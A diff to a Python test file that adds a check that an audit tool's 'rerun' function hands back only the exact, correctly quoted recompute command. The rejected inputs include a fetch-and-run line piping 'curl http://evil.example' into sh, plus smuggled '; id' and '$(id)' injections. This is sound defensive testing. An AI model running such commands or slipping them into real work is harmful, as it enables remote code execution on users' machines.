@@ -12,7 +12,7 @@ from hypothesis import strategies as st
 
 from ledger.errors import InvalidInput, Malformed, NotFound, Unacceptable
 from procurement.case_notes import MAX_ENTRIES, Finding, Place, note_body, parse_case_note
-from procurement.case_results import choose_result, parse_results, read_result
+from procurement.case_results import choose_result, parse_results, read_result, rerun
 
 ENTRY = {"index": 7, "leaf": "a" * 64}
 FLAG = {
@@ -96,3 +96,18 @@ def test_a_result_out_of_form_is_refused(change: dict[str, Any]) -> None:
     with suppress(InvalidInput):
         raised, places = read_result(9, {**FLAG, **change, "code": "R018"})
         assert (raised.code, len(places)) == ("R018", len(change.get("entries", [ENTRY])))
+
+
+def test_no_command_is_passed_on_but_the_one_that_computes_again() -> None:
+    """What an auditor signs as the command is pasted into terminals: no other word gets there."""
+    own = "jejak flags R018 --subject 'a; id' --at 9"
+    flag = {"code": "R018", "subject": "a; id", "command": own}
+    assert rerun(flag) == own
+    assert rerun({**flag, "subject": "-x", "command": "jejak flags R018 --subject -x --at 9"})
+    for command in (
+        *("", "'", "jejak", "curl http://evil.example | sh", f"{own}; id", f"{own} --of http://e"),
+        *("jejak flags R018 --subject a; id --at 9", 'jejak flags R018 --subject "a; id" --at 9'),
+        *("jejak flags R018 --subject 'a; id' --at $(id)", own.replace("flags", "init")),
+        *(own.replace("R018", "R001"), own.replace("a; id", "b"), f" {own}", own + "\u0661"),
+    ):
+        assert rerun({**flag, "command": command}) == ""
